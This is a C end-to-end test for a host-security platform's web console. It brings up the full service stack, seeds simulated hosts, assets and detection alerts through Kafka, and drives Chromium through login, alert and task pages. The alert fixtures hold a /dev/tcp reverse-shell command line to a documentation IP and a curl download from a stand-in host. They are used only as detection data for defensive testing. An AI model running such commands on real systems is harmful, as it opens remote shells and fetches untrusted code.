/* End-to-end test of the console in headless Chromium against the real stack.
 *
 * Starts Redis, the Kafka-protocol broker, jongodb, service discovery, an AgentCenter, a hub
 * and the manager serving the built console; connects three simulated agents; feeds two more
 * hosts (heartbeats with facts, asset snapshots) and alerts with process chains through Kafka
 * as the agents and the hub would; then runs console/tests/e2e/run.mjs (playwright-core
 * driving Debian's chromium), which logs in, checks the overview against the API, opens a
 * host and an alert, whitelists it, creates a task and sees it finish, and logs out, saving
 * a screenshot of each page under <build>/test-logs/console-e2e/screens.
 *
 * Exit status: 0 passed, 1 failed, 77 skipped (no chromium: ctest shows it as skipped). */
#include <errno.h>
#include <jansson.h>
#include <librdkafka/rdkafka.h>
#include <signal.h>
#include <spawn.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "envelope.pb-c.h"
#include "common/strbuf.h"
#include "tests/harness/harness.h"
#include "tests/tools/agent-sim/sim_payload.h"

#define ADMIN_PW      "console-e2e-admin-pw"
#define CHROMIUM      "/usr/bin/chromium"
#define RUN_TIMEOUT_S 300

extern char **environ;

static struct {
    uint16_t redis_port, sd_port, http_port, ac_grpc, ac_http, hub_port;
    char bootstrap[256], mongo_uri[128], keys_path[512], sk[80], secret_path[512];
    char base[64], token[2048];
    harness_proc_t *redis, *kafka, *mongo, *sd, *ac, *hub, *mgr, *sim;
    rd_kafka_t *producer;
} W;

static int fail(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    fprintf(stderr, "console-e2e: ");
    vfprintf(stderr, fmt, ap);
    fprintf(stderr, "\n");
    va_end(ap);
    return -1;
}

static long call(const char *method, const char *path, const char *body, json_t **out)
{
    char url[512], auth[2200];
    snprintf(url, sizeof(url), "%s%s", W.base, path);
    snprintf(auth, sizeof(auth), "Authorization: Bearer %s", W.token);
    const char *hdr[] = {auth, body ? "Content-Type: application/json" : NULL, NULL};
    harness_http_response_t r;
    harness_http(method, url, body, body ? strlen(body) : 0, hdr, &r);
    if (out)
        *out = r.body ? json_loads(r.body, 0, NULL) : NULL;
    long st = r.status;
    harness_http_response_free(&r);
    return st;
}

/* GET path until json .total == want (or timeout); 0 when reached. */
static int wait_total(const char *path, int want, int timeout_ms)
{
    for (int waited = 0; waited <= timeout_ms; waited += 250) {
        json_t *j = NULL;
        long st = call("GET", path, NULL, &j);
        json_int_t total = json_integer_value(json_object_get(j, "total"));
        json_decref(j);
        if (st == 200 && total == want)
            return 0;
        usleep(250000);
    }
    return fail("%s never reached total %d", path, want);
}

/* ---- services ---------------------------------------------------------------------------- */

static int start_services(const char *console_dir)
{
    char cfg[4096], path[700], bin[512];
    if (!(W.redis = harness_redis_start(&W.redis_port)) ||
        !(W.kafka = harness_kafka_start(W.bootstrap, sizeof(W.bootstrap))) ||
        !(W.mongo = harness_mongo_start(W.mongo_uri, sizeof(W.mongo_uri))))
        return fail("could not start Redis, the Kafka broker or jongodb");
    if (harness_make_keys("rampart-test", W.sk, sizeof(W.sk), W.keys_path, sizeof(W.keys_path)))
        return fail("keys");
    unsigned char rnd[32];
    char secret[80];
    if (getrandom(rnd, sizeof(rnd), 0) != (ssize_t)sizeof(rnd))
        return fail("getrandom");
    for (size_t i = 0; i < sizeof(rnd); i++)
        snprintf(secret + 2 * i, 3, "%02x", rnd[i]);
    harness_write_file("jwt.secret", secret, W.secret_path, sizeof(W.secret_path));

    W.sd_port = harness_free_port();
    snprintf(cfg, sizeof(cfg),
             "http:\n  listen: 127.0.0.1:%u\nredis:\n  addr: 127.0.0.1:%u\n"
             "registry:\n  ttl: 30s\n  cache: 0\nauth:\n  keys_file: %s\n",
             (unsigned)W.sd_port, (unsigned)W.redis_port, W.keys_path);
    harness_write_file("sd.yaml", cfg, path, sizeof(path));
    harness_bin("service-discovery/rampart-sd", bin, sizeof(bin));
    char *sd_argv[] = {bin, "-c", path, NULL};
    if (!(W.sd = harness_spawn("sd", sd_argv, NULL)) || harness_wait_port(W.sd_port, 15000))
        return fail("service discovery did not start");

    W.ac_grpc = harness_free_port();
    W.ac_http = harness_free_port();
    snprintf(cfg, sizeof(cfg),
             "instance:\n  id: ac-e2e\ngrpc:\n  listen: 127.0.0.1:%u\n  plaintext_for_tests: true\n"
             "  drain_timeout: 1s\nhttp:\n  listen: 127.0.0.1:%u\nauth:\n  keys_file: %s\n"
             "kafka:\n  brokers: %s\n  flush_timeout: 2s\n"
             "sd:\n  addrs: [127.0.0.1:%u]\n  access_key: rampart-test\n  renew_interval: 1s\n",
             (unsigned)W.ac_grpc, (unsigned)W.ac_http, W.keys_path, W.bootstrap,
             (unsigned)W.sd_port);
    harness_write_file("ac.yaml", cfg, path, sizeof(path));
    harness_bin("agent-center/rampart-agent-center", bin, sizeof(bin));
    char *ac_argv[] = {bin, "-c", path, NULL};
    if (!(W.ac = harness_spawn("ac", ac_argv, NULL)) ||
        harness_wait_log(W.ac, "event=started", NULL, 0, 15000))
        return fail("the AgentCenter did not start");

    /* A hub, so the Rules page lists real rules and whitelist entries are pushed somewhere. */
    char state_dir[700], env[6][900];
    harness_write_file("hub-state-marker", "", path, sizeof(path));
    snprintf(state_dir, sizeof(state_dir), "%.*s/hub-state", (int)(strrchr(path, '/') - path),
             path);
    mkdir(state_dir, 0700);
    W.hub_port = harness_free_port();
    snprintf(env[0], sizeof(env[0]), "RAMPART_HUB_KAFKA_BROKERS=%s", W.bootstrap);
    snprintf(env[1], sizeof(env[1]), "RAMPART_HUB_HTTP_LISTEN=127.0.0.1:%u", (unsigned)W.hub_port);
    snprintf(env[2], sizeof(env[2]), "RAMPART_HUB_RULES_DIR=%s/hub/rules", RAMPART_SOURCE_DIR);
    snprintf(env[3], sizeof(env[3]), "RAMPART_HUB_RULES_STATE_DIR=%s", state_dir);
    snprintf(env[4], sizeof(env[4]), "RAMPART_HUB_AUTH_KEYS_FILE=%s", W.keys_path);
    snprintf(env[5], sizeof(env[5]), "RAMPART_HUB_SD_ADDRS=127.0.0.1:%u", (unsigned)W.sd_port);
    char *hub_env[] = {env[0],
                       env[1],
                       env[2],
                       env[3],
                       env[4],
                       env[5],
                       "RAMPART_HUB_SD_ACCESS_KEY=rampart-test",
                       "RAMPART_HUB_SD_RENEW_INTERVAL=1s",
                       NULL};
    harness_bin("hub/rampart-hub", bin, sizeof(bin));
    char *hub_argv[] = {bin, NULL};
    if (!(W.hub = harness_spawn("hub", hub_argv, hub_env)) || harness_wait_port(W.hub_port, 30000))
        return fail("the hub did not start");

    W.http_port = harness_free_port();
    snprintf(cfg, sizeof(cfg),
             "log:\n  level: info\ninstance: mgr-e2e\n"
             "http:\n  listen: 127.0.0.1:%u\n  threads: 8\n"
             "mongo:\n  uri: %s\n  timeout: 2s\nredis:\n  addr: 127.0.0.1:%u\n"
             "kafka:\n  brokers: %s\n"
             "auth:\n  jwt_secret_file: %s\n  argon2_memory_kib: 1024\n  argon2_iterations: 1\n"
             "  keys_file: %s\n  access_key: rampart-test\n  login_max_failures: 50\n"
             "hosts:\n  offline_after: 4s\njobs:\n  interval: 500ms\ntasks:\n  retry_after: 2s\n"
             "console:\n  dir: %s\n  max_age: 3600\n"
             "sd:\n  addrs: [127.0.0.1:%u]\n  renew_interval: 1s\n",
             (unsigned)W.http_port, W.mongo_uri, (unsigned)W.redis_port, W.bootstrap, W.secret_path,
             W.keys_path, console_dir, (unsigned)W.sd_port);
    harness_write_file("manager.yaml", cfg, path, sizeof(path));
    harness_bin("manager/rampart-manager", bin, sizeof(bin));
    char *mgr_argv[] = {bin, "-c", path, NULL};
    char *mgr_env[] = {"RAMPART_MANAGER_ADMIN_PASSWORD=" ADMIN_PW, NULL};
    if (!(W.mgr = harness_spawn("manager", mgr_argv, mgr_env)) ||
        harness_wait_log(W.mgr, "event=started", NULL, 0, 20000))
        return fail("the manager did not start");
    snprintf(W.base, sizeof(W.base), "http://127.0.0.1:%u", (unsigned)W.http_port);
    /* The first admin appears once the manager has reached MongoDB. */
    char url[256], body[128];
    snprintf(url, sizeof(url), "%s/api/v1/auth/login", W.base);
    snprintf(body, sizeof(body), "{\"username\":\"admin\",\"password\":\"%s\"}", ADMIN_PW);
    const char *hdr[] = {"Content-Type: application/json", NULL};
    for (int i = 0; i < 80 && !W.token[0]; i++) {
        harness_http_response_t r;
        harness_http("POST", url, body, strlen(body), hdr, &r);
        json_t *j = r.status == 200 && r.body ? json_loads(r.body, 0, NULL) : NULL;
        const char *t = json_string_value(json_object_get(j, "access_token"));
        if (t)
            snprintf(W.token, sizeof(W.token), "%s", t);
        json_decref(j);
        harness_http_response_free(&r);
        if (!W.token[0])
            usleep(250000);
    }
    if (!W.token[0])
        return fail("could not log in as admin");

    char target[64];
    snprintf(target, sizeof(target), "127.0.0.1:%u", (unsigned)W.ac_grpc);
    harness_bin("tests/tools/agent-sim/rampart-agent-sim", bin, sizeof(bin));
    char *sim_argv[] = {bin,
                        "--target",
                        target,
                        "--plaintext",
                        "--agents",
                        "3",
                        "--id-prefix",
                        "sim-",
                        "--rate",
                        "0",
                        "--heartbeat-ms",
                        "1000",
                        "--plugin-heartbeat",
                        "--drain-ms",
                        "1000",
                        NULL};
    if (!(W.sim = harness_spawn("sim", sim_argv, NULL)) ||
        harness_wait_log(W.sim, "event=all_connected", NULL, 0, 20000))
        return fail("the simulated agents did not connect");
    return 0;
}

static void stop_services(void)
{
    harness_stop(W.sim);
    harness_stop(W.mgr);
    harness_stop(W.hub);
    harness_stop(W.ac);
    harness_stop(W.sd);
    harness_stop(W.kafka);
    harness_kill(W.mongo);
    harness_stop(W.redis);
}

/* ---- data, as agents and the hub send it --------------------------------------------------- */

static void produce(const char *topic, const char *key, const void *val, size_t len)
{
    rd_kafka_producev(W.producer, RD_KAFKA_V_TOPIC(topic), RD_KAFKA_V_MSGFLAGS(RD_KAFKA_MSG_F_COPY),
                      RD_KAFKA_V_VALUE((void *)val, len), RD_KAFKA_V_KEY(key, strlen(key)),
                      RD_KAFKA_V_END);
}

/* One record on rampart.state, as an AgentCenter routes it: kv is "k=v" strings,
 * NULL-terminated, packed as a grpc.Payload inside the envelope. */
static void produce_state(const char *agent, const char *hostname, int dt, const char *const *kv)
{
    strbuf_t payload = STRBUF_INIT;
    for (size_t i = 0; kv[i]; i++) {
        char key[64];
        const char *eq = strchr(kv[i], '=');
        snprintf(key, sizeof(key), "%.*s", (int)(eq - kv[i]), kv[i]);
        sim_payload_kv(&payload, key, eq + 1);
    }
    Rampart__Envelope env = RAMPART__ENVELOPE__INIT;
    env.data_type = dt;
    env.agent_time = env.server_time = time(NULL);
    env.agent_id = (char *)agent;
    env.hostname = (char *)hostname;
    env.payload.data = (uint8_t *)payload.data;
    env.payload.len = payload.len;
    uint8_t buf[8192];
    if (rampart__envelope__get_packed_size(&env) <= sizeof(buf))
        produce("rampart.state", agent, buf, rampart__envelope__pack(&env, buf));
    strbuf_dispose(&payload);
}

static void produce_host(const char *agent, const char *hostname, const char *platform,
                         const char *version, const char *ip)
{
    char h[80], p[80], v[80], i[80];
    snprintf(h, sizeof(h), "hostname=%s", hostname);
    snprintf(p, sizeof(p), "platform=%s", platform);
    snprintf(v, sizeof(v), "platform_version=%s", version);
    snprintf(i, sizeof(i), "intranet_ipv4=%s", ip);
    const char *kv[] = {"agent_id=x",
                        h,
                        p,
                        v,
                        i,
                        "kernel_version=6.1.0-26-amd64",
                        "arch=x86_64",
                        "nproc=4",
                        "total_mem=8323002368",
                        "available_mem=5123002368",
                        "cpu_name=Intel Xeon",
                        "load_1=0.12",
                        "load_5=0.20",
                        "load_15=0.18",
                        "version=0.1.0",
                        "cpu=0.8",
                        "rss=25165824",
                        NULL};
    produce_state(agent, hostname, 1000, kv);
}

static void produce_assets(const char *agent, const char *hostname)
{
    static const char *const items[][8] = {
        {"5050", "pid=812", "ppid=1", "comm=sshd", "exe=/usr/sbin/sshd",
         "cmdline=sshd: /usr/sbin/sshd -D", "username=root", NULL},
        {"5050", "pid=1204", "ppid=1", "comm=nginx", "exe=/usr/sbin/nginx",
         "cmdline=nginx: master process", "username=root", NULL},
        {"5051", "protocol=tcp", "sip=0.0.0.0", "sport=22", "pid=812", "comm=sshd",
         "exe=/usr/sbin/sshd", NULL},
        {"5051", "protocol=tcp", "sip=0.0.0.0", "sport=443", "pid=1204", "comm=nginx",
         "exe=/usr/sbin/nginx", NULL},
        {"5052", "username=root", "uid=0", "gid=0", "home=/root", "shell=/bin/bash",
         "password_status=locked", NULL},
        {"5052", "username=deploy", "uid=1001", "gid=1001", "home=/home/deploy", "shell=/bin/bash",
         "password_status=ok", NULL},
        {"5055", "name=openssl", "sversion=3.0.15-1~deb12u1", "source=dpkg", "arch=amd64",
         "status=install ok installed", NULL, NULL},
        {"5055", "name=nginx", "sversion=1.22.1-9", "source=dpkg", "arch=amd64",
         "status=install ok installed", NULL, NULL},
        {"5053", "username=root", "schedule=17 * * * *", "command=/usr/local/bin/backup --nightly",
         "path=/etc/crontab", NULL, NULL, NULL},
        {"5054", "name=ssh.service", "description=OpenBSD Secure Shell server", "enabled=enabled",
         "active=active", NULL, NULL, NULL},
        {"5056", "name=web-frontend", "id=4f1c2a9e0b7d", "runtime=docker", "state=running",
         "image_name=nginx:1.27", NULL, NULL},
        {"5062", "name=overlay", "size=151552", "refcount=2", "state=Live", NULL, NULL, NULL},
    };
    for (size_t i = 0; i < sizeof(items) / sizeof(items[0]); i++)
        produce_state(agent, hostname, atoi(items[i][0]), &items[i][1]);
}

/* An alert as the hub writes it (docs/alerts.md); chain: JSON array text or NULL. */
static void produce_alert(const char *id, const char *rule, const char *name, const char *sev,
                          const char *attack, const char *agent, const char *host,
                          long long detected, const char *event, const char *chain)
{
    char buf[6000];
    snprintf(buf, sizeof(buf),
             "{\"schema\":\"rampart.alert/1\",\"id\":\"%s\",\"kind\":\"alert\","
             "\"rule\":{\"id\":\"%s\",\"name\":\"%s\",\"severity\":\"%s\",\"type\":\"simple\","
             "\"attack\":[\"%s\"],\"tags\":[],\"description\":\"%s looks like an attack.\","
             "\"remediation\":\"Kill the process tree, find what started it and look for "
             "persistence.\"},\"count\":1,\"first_seen_ms\":%lld,\"last_seen_ms\":%lld,"
             "\"detected_at_ms\":%lld,\"hub\":\"hub-e2e\",\"agent\":{\"id\":\"%s\","
             "\"hostname\":\"%s\",\"ipv4\":[\"10.0.0.7\"]},\"data_type\":59,"
             "\"event_time_ms\":%lld,\"server_time\":%lld,\"key\":{},\"event\":%s,"
             "\"process_chain\":%s}",
             id, rule, name, sev, attack, name, detected, detected, detected, agent, host, detected,
             detected / 1000, event, chain ? chain : "[]");
    produce("rampart.alerts", agent, buf, strlen(buf));
}

static int seed(void)
{
    char err[256];
    rd_kafka_conf_t *c = rd_kafka_conf_new();
    rd_kafka_conf_set(c, "bootstrap.servers", W.bootstrap, err, sizeof(err));
    if (!(W.producer = rd_kafka_new(RD_KAFKA_PRODUCER, c, err, sizeof(err))))
        return fail("producer: %s", err);
    produce_host("e2e-web-01", "web-01", "debian", "12.8", "10.0.0.7");
    produce_host("e2e-db-01", "db-01", "ubuntu", "22.04", "10.0.0.8");
    produce_assets("e2e-web-01", "web-01");
    long long now = (long long)time(NULL) * 1000, day = 86400000LL;
    const char *shell_event =
        "{\"exe\":\"/bin/bash\",\"comm\":\"bash\",\"argv\":\"bash -i >& /dev/tcp/203.0.113.9/4444 "
        "0>&1\",\"pid\":\"4242\",\"ppid\":\"4100\",\"uid\":\"33\",\"cwd\":\"/var/www\"}";
    const char *shell_chain =
        "[{\"pid\":4242,\"ppid\":4100,\"exe\":\"/bin/bash\",\"comm\":\"bash\","
        "\"argv\":\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\",\"uid\":\"33\"},"
        "{\"pid\":4100,\"ppid\":1204,\"exe\":\"/bin/sh\",\"comm\":\"sh\",\"argv\":\"sh -c "
        "/tmp/x.sh\",\"uid\":\"33\"},"
        "{\"pid\":1204,\"ppid\":1,\"exe\":\"/usr/sbin/php-fpm8.2\",\"comm\":\"php-fpm8.2\","
        "\"argv\":\"php-fpm: pool www\",\"uid\":\"33\"},"
        "{\"pid\":1,\"ppid\":0,\"exe\":\"/usr/lib/systemd/systemd\",\"comm\":\"systemd\","
        "\"argv\":\"/sbin/init\",\"uid\":\"0\"}]";
    produce_alert("e2e00000000000000000000000000001", "reverse_shell_dev_tcp",
                  "Reverse shell through /dev/tcp", "critical", "T1059.004", "sim-00001",
                  "sim-00001", now - 60000, shell_event, shell_chain);
    const char *curl_event =
        "{\"exe\":\"/usr/bin/curl\",\"argv\":\"curl -s http://x.example/i.sh\","
        "\"pid\":\"5120\",\"ppid\":\"5000\"}";
    const char *curl_chain = "[{\"pid\":5120,\"ppid\":5000,\"exe\":\"/usr/bin/curl\","
                             "\"comm\":\"curl\",\"argv\":\"curl -s http://x.example/i.sh\"}]";
    static const struct {
        const char *id, *rule, *name, *sev, *attack, *agent, *host;
        int days_ago;
    } more[] = {
        {"e2e00000000000000000000000000002", "download_exec", "Download piped to a shell", "high",
         "T1105", "e2e-web-01", "web-01", 0},
        {"e2e00000000000000000000000000003", "download_exec", "Download piped to a shell", "high",
         "T1105", "e2e-web-01", "web-01", 2},
        {"e2e00000000000000000000000000004", "ssh_bruteforce", "SSH brute force", "medium", "T1110",
         "e2e-db-01", "db-01", 3},
        {"e2e00000000000000000000000000005", "crontab_change", "Crontab modified", "low",
         "T1053.003", "e2e-db-01", "db-01", 5},
        {"e2e00000000000000000000000000006", "kmod_load", "Kernel module loaded", "info",
         "T1547.006", "sim-00000", "sim-00000", 6},
    };
    for (size_t i = 0; i < sizeof(more) / sizeof(more[0]); i++)
        produce_alert(more[i].id, more[i].rule, more[i].name, more[i].sev, more[i].attack,
                      more[i].agent, more[i].host, now - more[i].days_ago * day - 120000,
                      curl_event, curl_chain);
    if (rd_kafka_flush(W.producer, 10000) != 0)
        return fail("Kafka flush");
    /* Everything stored, and the two fed hosts offline (no further heartbeat), so the numbers
     * the browser sees hold still while it compares them with the API. */
    if (wait_total("/api/v1/alerts", 6, 20000) || wait_total("/api/v1/hosts", 5, 20000) ||
        wait_total("/api/v1/hosts?status=offline", 2, 20000) ||
        wait_total("/api/v1/hosts?status=online", 3, 20000) ||
        wait_total("/api/v1/hosts/e2e-web-01/assets", 12, 20000))
        return -1;
    if (call("PUT", "/api/v1/hosts/e2e-web-01/tags", "{\"tags\":[\"web\",\"prod\"]}", NULL) != 200)
        return fail("tags");
    /* Rules come from the hub once it has registered. */
    for (int i = 0; i < 80; i++) {
        json_t *j = NULL;
        call("GET", "/api/v1/rules", NULL, &j);
        bool ok = json_is_true(json_object_get(j, "hub_reachable"));
        json_decref(j);
        if (ok)
            return 0;
        usleep(250000);
    }
    return fail("the hub's rules never reached the manager");
}

/* ---- the browser part ---------------------------------------------------------------------- */

static int run_browser(const char *screens)
{
    char script[600], env_url[128], env_pw[128], env_shots[700], env_alert[128];
    snprintf(script, sizeof(script), "%s/console/tests/e2e/run.mjs", RAMPART_SOURCE_DIR);
    snprintf(env_url, sizeof(env_url), "RAMPART_URL=%s", W.base);
    snprintf(env_pw, sizeof(env_pw), "RAMPART_PASSWORD=%s", ADMIN_PW);
    snprintf(env_shots, sizeof(env_shots), "RAMPART_SCREENS=%s", screens);
    snprintf(env_alert, sizeof(env_alert), "RAMPART_ALERT=%s", "e2e00000000000000000000000000001");
    /* node inherits this environment plus the four above; output goes to ours (ctest shows it). */
    size_t n = 0;
    while (environ[n])
        n++;
    char **envp = calloc(n + 5, sizeof(*envp));
    memcpy(envp, environ, n * sizeof(*envp));
    envp[n] = env_url;
    envp[n + 1] = env_pw;
    envp[n + 2] = env_shots;
    envp[n + 3] = env_alert;
    char *argv[] = {"node", script, NULL};
    pid_t pid;
    int rc = posix_spawnp(&pid, "node", NULL, NULL, argv, envp);
    free(envp);
    if (rc != 0)
        return fail("cannot start node: %s", strerror(rc));
    int status = 0;
    for (int waited = 0;; waited++) {
        pid_t w = waitpid(pid, &status, WNOHANG);
        if (w == pid)
            break;
        if (waited >= RUN_TIMEOUT_S * 10) {
            kill(pid, SIGKILL);
            waitpid(pid, &status, 0);
            return fail("the browser run took longer than %d s", RUN_TIMEOUT_S);
        }
        usleep(100000);
    }
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : fail("browser checks failed");
}

int main(void)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (access(CHROMIUM, X_OK) != 0) {
        printf("SKIP: %s is not installed (scripts/install-deps.sh installs Debian's chromium); "
               "the console end-to-end test needs it\n",
               CHROMIUM);
        return 77;
    }
    char index[700];
    snprintf(index, sizeof(index), "%s/index.html", RAMPART_CONSOLE_DIR);
    if (access(index, R_OK) != 0) {
        fprintf(stderr, "console-e2e: %s is missing: build the console first (make)\n", index);
        return 1;
    }
    harness_init("console-e2e");
    char screens[700], p[700];
    harness_write_file("screens-marker", "", p, sizeof(p));
    snprintf(screens, sizeof(screens), "%.*s/screens", (int)(strrchr(p, '/') - p), p);
    mkdir(screens, 0755);
    time_t t0 = time(NULL);
    int rc = start_services(RAMPART_CONSOLE_DIR);
    if (rc == 0)
        rc = seed();
    printf("console-e2e: stack up and seeded in %ld s\n", (long)(time(NULL) - t0));
    if (rc == 0)
        rc = run_browser(screens);
    if (W.producer)
        rd_kafka_destroy(W.producer);
    stop_services();
    printf("console-e2e: screenshots in %s\n", screens);
    printf("%s\n", rc == 0 ? "1 passed, 0 failed" : "0 passed, 1 failed");
    return rc == 0 ? 0 : 1;
}
